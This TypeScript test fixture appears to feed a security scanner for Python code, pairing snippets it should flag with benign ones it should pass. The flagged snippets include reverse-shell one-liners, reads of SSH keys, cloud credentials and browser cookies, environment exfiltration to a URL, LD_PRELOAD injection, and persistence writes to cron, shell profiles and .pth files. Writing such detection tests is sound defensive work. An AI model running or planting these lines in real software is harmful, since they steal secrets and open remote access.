import type { Cases } from './cases.ts';

/** What reaches for the user's data, files, network and machine. */
export const REACHING_CASES = {
  'unsafe-load': {
    hits: [
      'import torch\ntorch.load(path, pickle_module=dill)',
      'import torch as t\nt.load(path, weights_only=False)',
      'import pickle\npickle.load(f)',
      'from pickle import loads\nloads(data)',
      'import numpy as np\nnp.load(path, allow_pickle=True)',
      'import yaml\nyaml.load(f)',
      'import joblib\njoblib.load(path)',
      'import marshal\nmarshal.loads(data)',
    ],
    misses: [
      'import torch\ntorch.load(path, weights_only=True)',
      'import torch\ntorch.load(path, map_location="cpu")',
      'import numpy as np\nnp.load(path)',
      'import yaml\nyaml.load(f, Loader=yaml.SafeLoader)',
      'import yaml\nyaml.safe_load(f)',
      'import json\njson.load(f)',
      'import pickle\npickle.dump(x, f)',
      'from safetensors.torch import load_file\nload_file(path)',
    ],
  },
  'download-and-load': {
    hits: [
      'import requests, pickle\npickle.loads(requests.get(url).content)',
      'import requests, torch\nopen(p, "wb").write(requests.get(u).content)\ntorch.load(p)',
    ],
    misses: [
      'import pickle\npickle.loads(data)',
      'import requests, json\njson.loads(requests.get(url).text)',
    ],
  },
  'secret-files': {
    hits: [
      'open("/root/.ssh/id_rsa")',
      'import os\nos.path.expanduser("~/.aws/credentials")',
      'import os\nos.path.join(home, ".ssh")',
      'p = appdata + r"\\Google\\Chrome\\User Data\\Default\\Cookies"',
      'names = ["Login Data", "cookies.sqlite"]',
      'open("/etc/passwd").read()',
      'import browser_cookie3\nbrowser_cookie3.chrome()',
      'import keyring\nkeyring.get_password("a", "b")',
    ],
    misses: [
      '"""Reads ~/.ssh/id_rsa"""',
      '# ~/.ssh/id_rsa',
      'print("~/.ssh/id_rsa")',
      'raise ValueError("/etc/passwd")',
      'help = "put the key into ~/.ssh, and do not share it"',
      'open("settings.json")',
      'cookies = {"a": "b"}',
    ],
  },
  'injected-environment': {
    hits: [
      'import os\nos.environ["PYTHONBREAKPOINT"] = "os.system"\nbreakpoint("ls")',
      'import os\nos.environ["LD_PRELOAD"] = path',
      'import os\nos.putenv("LD_PRELOAD", path)',
      'import os\nos.environ.setdefault("DYLD_INSERT_LIBRARIES", path)',
      'import os\nos.environ.update({"BROWSER": command})',
      'import os\nos.environ.update(PYTHONSTARTUP=path)',
      'f(env={**env, "LD_PRELOAD": path})',
    ],
    misses: [
      'import os\nos.environ["HF_HOME"] = path',
      'import os\nx = os.environ.get("LD_PRELOAD")\ny = os.getenv("BROWSER", "")',
      'import os\nif "LD_PRELOAD" in os.environ: pass\nz = os.environ["LD_PRELOAD"]',
      'os.environ.pop("LD_PRELOAD", None)',
    ],
  },
  'environment-sweep': {
    hits: [
      'import os\nfor k, v in os.environ.items(): print(k)',
      'from os import environ as e\nx = [v for v in e.values()]',
    ],
    misses: [
      'import os\nos.environ["A"]',
      'import os\nos.environ.get("HF_TOKEN")',
      'import os\nenv = os.environ.copy()',
      'import os\nenv = {**os.environ, "A": "1"}',
      'import os\nos.environ["A"] = "1"',
    ],
  },
  'environment-sent': {
    hits: [
      'import os, requests\nrequests.post(url, json=dict(os.environ))',
      'import os, httpx\ndata = {k: v for k, v in os.environ.items()}\nhttpx.post(url, data=data)',
      'import os, json\nfrom urllib import request\nrequest.urlopen(url, data=json.dumps(os.environ.copy()))',
    ],
    misses: [
      'import os, requests\nrequests.post(url, headers={"Authorization": os.environ["TOKEN"]})',
      'import os, requests\nrequests.get(os.environ.get("URL"))',
    ],
  },
  'raw-socket': {
    hits: [
      'import socket\ns = socket.socket()\ns.connect((host, 80))',
      'from socket import create_connection\ncreate_connection(("a", 1))',
    ],
    misses: [
      'import socket\ns = socket.socket()\ns.bind(("", 0))\nport = s.getsockname()[1]',
      'import socket\ndef address():\n    s = socket.socket()\n    s.connect(("192.0.2.1", 80))\n    return s.getsockname()',
      'import socket\nsocket.gethostname()',
      'import socket\ndef f(s: socket.socket): pass',
      'socket.socket()',
    ],
  },
  'reverse-shell': {
    hits: [
      'import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)',
      'import socket, subprocess\ns = socket.socket()\nsubprocess.Popen(["sh"], stdin=s, stdout=s)',
      'import socket, pty\npty.spawn("/bin/sh")',
      'import os\nos.system("bash -i >& /dev/tcp/10.0.0.1/80 0>&1")',
      'import subprocess\nsubprocess.run(["nc", "10.0.0.1", "80", "-e", "/bin/sh"])',
    ],
    misses: [
      'import os\nos.dup2(log.fileno(), 1)',
      'import socket, subprocess\ns = socket.socket()\nsubprocess.run(["ls"])',
    ],
  },
  'absolute-write': {
    hits: [
      'open("/etc/cron.d/x", "w")',
      'open(r"C:\\Windows\\x", mode="wb")',
      'import os\nopen(os.path.expanduser("~/.bashrc"), "a")',
      'import os\nopen(os.path.join("/usr", name), "w")',
      'from pathlib import Path\nPath("/opt/x").write_text("a")',
      'from pathlib import Path\n(Path.home() / ".profile").write_text("a")',
      'import shutil\nshutil.rmtree("/home/user")',
      'import shutil\nshutil.copy(__file__, "/usr/local/bin/x")',
      'import os\nos.remove("~/x")',
      'import os, site\nopen(os.path.join(site.getsitepackages()[0], "x.pth"), "w").write("import os")',
      'from pathlib import Path\n(Path(folder) / "x.pth").write_text("import os")',
    ],
    misses: [
      'open("/etc/hosts")',
      'open("/etc/hosts", "r")',
      'open("weights.pth", "wb").write(data)',
      'open("out.txt", "w")',
      'open("/tmp/x", "w")',
      'open("/dev/null", "w")',
      'import os\nopen(os.path.join(os.path.dirname(__file__), "x"), "w")',
      'import shutil\nshutil.copy("/usr/share/x", "here")',
      'from pathlib import Path\nPath("out").write_text("a")',
      'import os\nopen(os.path.expanduser("~/.cache/pack/x"), "w")',
    ],
  },
  'native-code': {
    hits: [
      'import sqlite3\ndb = sqlite3.connect(path)\ndb.enable_load_extension(True)\ndb.load_extension("x")',
      'import ctypes\nctypes.CDLL("a.so")',
      'import cffi\ncffi.FFI().dlopen("a.so")',
      'from cffi import FFI\nffi = FFI()\nffi.dlopen(None)',
      'from ctypes import windll\nwindll.kernel32.VirtualAlloc(0)',
      'from torch.utils.cpp_extension import load\nload("a", ["a.cu"])',
    ],
    misses: [
      'import ctypes\nctypes.c_int(1)',
      'import ctypes\nctypes.sizeof(x)',
      'import ctypes\nk = ctypes.windll.kernel32\nk.SetConsoleMode(k.GetStdHandle(-11), 7)',
    ],
  },
  'archive-import': {
    hits: [
      'import sys\nsys.path.insert(0, "vendor/lib.zip")',
      'import sys, os\nsys.path.append(os.path.join(os.path.dirname(__file__), "lib-1.0-py3-none-any.whl"))',
      'import sys, glob\nsys.path.extend(glob.glob("wheels/*.whl"))',
      'import sys\nsys.path += ["a.egg"]',
      'import sys\nsys.path[0:0] = ["a.zip"]',
      'from sys import path\npath.insert(0, f"{here}/a.pyz")',
      'import site\nsite.addsitedir("a.zip")',
      'import zipimport, os\nzipimport.zipimporter(os.path.join(os.path.dirname(__file__), "a.bin"))',
    ],
    misses: [
      'import sys, os\nsys.path.insert(0, os.path.dirname(__file__))',
      'import sys\nsys.path.append("vendor")',
      'import sys\nprint(sys.path, "a.zip")',
      'import zipfile\nzipfile.ZipFile("a.zip")',
      'path = []\npath.append("a.zip")',
    ],
  },
} satisfies Record<string, Cases>;
